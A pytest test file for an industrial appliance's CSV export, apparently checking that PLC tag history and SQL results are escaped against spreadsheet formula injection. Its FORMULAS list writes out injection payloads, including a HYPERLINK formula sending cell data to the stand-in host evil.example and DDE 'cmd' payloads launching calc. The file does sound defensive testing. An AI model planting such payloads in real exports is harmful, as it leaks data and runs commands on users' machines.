"""CSV answers (tag history, SQL results) opened in a spreadsheet: a PLC's text is text.

OWASP "CSV Injection": a cell starting with = + - @ tab or CR is a formula to Excel and
LibreOffice; such a text value gets a leading single quote. Numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import time

import pytest

from appliance.field import api
from appliance.field.history import HistoryWriter
from appliance.state.db import Store

NOW = time.time()
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
PLAIN = ["plain", "a=b", " =1", "", "'already quoted"]


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_value_that_a_spreadsheet_reads_as_a_formula_is_quoted(
    store: Store, text: str
) -> None:
    w = HistoryWriter(store)
    w.add("plc1.name", NOW - 10, text, "good")
    w.flush()
    rows = rows_of(api.history_csv(store, "plc1.name", NOW - 60, NOW))
    assert [r[3] for r in rows[1:]] == ["'" + text]


def test_plain_text_and_numbers_are_written_as_they_are(store: Store) -> None:
    w = HistoryWriter(store)
    for i, text in enumerate(PLAIN):
        w.add("plc1.name", NOW - 100 + i, text, "good")
    for i, number in enumerate([-1.5, -3, 0, 2.25]):
        w.add("plc1.temp", NOW - 100 + i, number, "good")
    w.add("plc1.flag", NOW - 50, False, "good")
    w.flush()
    rows = rows_of(api.history_csv(store, "plc1.name", NOW - 200, NOW))
    assert [r[3] for r in rows[1:]] == PLAIN
    rows = rows_of(api.history_csv(store, "plc1.temp", NOW - 200, NOW))
    assert [r[3] for r in rows[1:]] == ["-1.5", "-3", "0", "2.25"]
    rows = rows_of(api.history_csv(store, "plc1.flag", NOW - 200, NOW))
    assert [r[3] for r in rows[1:]] == ["0"]


def test_sql_csv_quotes_formula_text_and_keeps_numbers() -> None:
    result = {
        "columns": ["tag", "value", "=col"],
        "rows": [["plc1.name", FORMULAS[0], -1.5], ["plc1.x", "-", None]],
    }
    assert rows_of(api.sql_csv(result)) == [
        ["tag", "value", "'=col"],
        ["plc1.name", "'" + FORMULAS[0], "-1.5"],
        ["plc1.x", "'-", ""],
    ]


def test_a_cr_or_lf_inside_a_value_is_quoted_and_the_row_stays_one_row() -> None:
    result = {"columns": ["v", "n"], "rows": [["a\rb", 1], ["c\nd", 2], ["e\r\nf", 3]]}
    text = api.sql_csv(result)
    assert text.startswith("v,n\n") and text.endswith("\n") and "\r\n" in text
    # as a spreadsheet reads it (universal newlines): three rows, values intact
    rows = list(csv.reader(io.StringIO(text, newline=None)))
    assert rows == [["v", "n"], ["a\nb", "1"], ["c\nd", "2"], ["e\nf", "3"]]
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [["v", "n"], ["a\rb", "1"], ["c\nd", "2"], ["e\r\nf", "3"]]
